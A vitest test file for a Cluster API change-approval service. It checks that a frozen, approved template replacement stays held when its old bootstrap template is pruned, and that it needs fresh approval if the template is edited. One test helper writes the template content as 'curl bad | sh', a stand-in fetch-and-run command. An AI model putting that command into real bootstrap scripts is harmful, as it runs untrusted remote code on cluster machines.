import { expect, test } from 'vitest'
import { db } from '@/lib/db/client'
import { useTestDatabase } from '@/lib/db/testing'
import { approveChange } from '@/lib/services/changes/approve-change'
import { bootstrapOf, pauseCluster } from '@/testenv/bootstrap-template'
import { audited, expectHeld, inputFor } from '@/testenv/deciding'
import { MD, type Held } from '@/testenv/held'
import { planningContext } from '@/testenv/planning'
import { newestOf } from '@/testenv/reconnected'
import { ada, approvals, FROZEN, lifted, row, says, timedCluster } from '@/testenv/timed'
import { planGroup } from './plan-group'
import { goInTime, holdToTimes } from './times'

useTestDatabase()
const { at, view } = timedCluster()
const TEMPLATES = { group: 'bootstrap.cluster.x-k8s.io', version: 'v1beta2', plural: 'kubeadmconfigtemplates' }

/** Where it is not known whether Cluster API compares before it replaces. */
const UNKNOWN = { state: 'unknown' as const, how: 'The Deployment capi-controller-manager cannot be read.' }
const GATES = { inPlaceUpdates: UNKNOWN, runtimeSdk: UNKNOWN }
const look = async (held: Held, gates: Parameters<typeof planningContext>[1] = GATES) =>
  planGroup(await planningContext(at.clusterId, gates), { ...(await held.read()), kind: held.kind })

/** A change that names another template, and nothing moves while the test looks. */
async function renamed() {
  const before = await at.held()
  const { admin } = at.cluster
  await db().group.update({ where: { id: before.change.groupId }, data: { governed: true } })
  await pauseCluster(admin, before)
  const bootstrap = await bootstrapOf(admin, before)
  await bootstrap.copy('next', 'echo one')
  const spec = { template: { spec: { bootstrap: { configRef: { name: 'next' } } } } }
  await admin.patch(MD, before.name, before.namespace, 'merge', { spec } as never)
  await look(before)
  const held = await newestOf(before)
  return {
    held,
    edit: () => bootstrap.edit('next', 'curl bad | sh'),
    prune: () => admin.delete(TEMPLATES, bootstrap.name, held.namespace),
    back: () => bootstrap.copy(bootstrap.name, 'echo zero'),
  }
}
const newest = async (held: Held) => (await newestOf(held)).change

/** Approved replacing, and held by a freeze: before it began, or on its way. */
async function frozen(when: string) {
  const it = await renamed()
  const { held } = it
  if (when === 'before it began') await says(held, FROZEN)
  await approveChange(ada, inputFor(held))
  await look(held)
  if (when === 'before it began') return it
  expect(await row(held)).toMatchObject({ state: 'running' })
  await says(held, FROZEN)
  return it
}
const WHEN = ['before it began', 'on its way'] as const

test.each(WHEN)(
  'held by its calendar %s, it stays approved where its old template is pruned, and goes on',
  async (when) => {
    const { held, prune, back } = await frozen(when)
    await prune()
    await holdToTimes(await view())
    for (let i = 0; i < 3; i++) await look(held)
    await expectHeld(held)
    expect(await newest(held)).toMatchObject({ id: held.change.id, state: 'waiting', dueMode: 'replace' })
    expect(await approvals(held)).toEqual(['ada'])
    // It is there again: its new content is the same.
    await back()
    await look(held)
    expect(await newest(held)).toMatchObject({ id: held.change.id, state: 'waiting', dueMode: 'replace' })
    await prune()
    await look(held)
    await lifted()
    await goInTime(await view())
    for (let i = 0; i < 2; i++) await look(held)
    expect(await newest(held)).toMatchObject({ id: held.change.id, state: 'running' })
    expect(await approvals(held)).toEqual(['ada'])
    expect(await audited(held)).not.toContain('change.not-held ok')
  },
)

test.each(WHEN)('edited besides, it waits for people (%s)', async (when) => {
  const { held, prune, edit } = await frozen(when)
  await prune()
  await edit()
  await holdToTimes(await view())
  for (let i = 0; i < 3; i++) await look(held)
  await lifted()
  await goInTime(await view())
  await expectHeld(held)
  expect(await newest(held)).toMatchObject({ state: 'waiting', dueMode: null })
})

test('what Cluster API cannot compare stays approved, and does not go before it can', async () => {
  const { held, prune } = await frozen('before it began')
  await prune()
  await look(held, undefined as never)
  const { gates } = (await planningContext(at.clusterId)).view.capabilities
  await look(held, gates)
  await lifted()
  await goInTime(await view())
  await expectHeld(held)
  expect(await newest(held)).toMatchObject({ id: held.change.id, state: 'waiting', dueMode: 'replace' })
  expect((await newest(held)).outlook).toMatchObject({ blocked: expect.stringContaining('does not exist') as string })
})
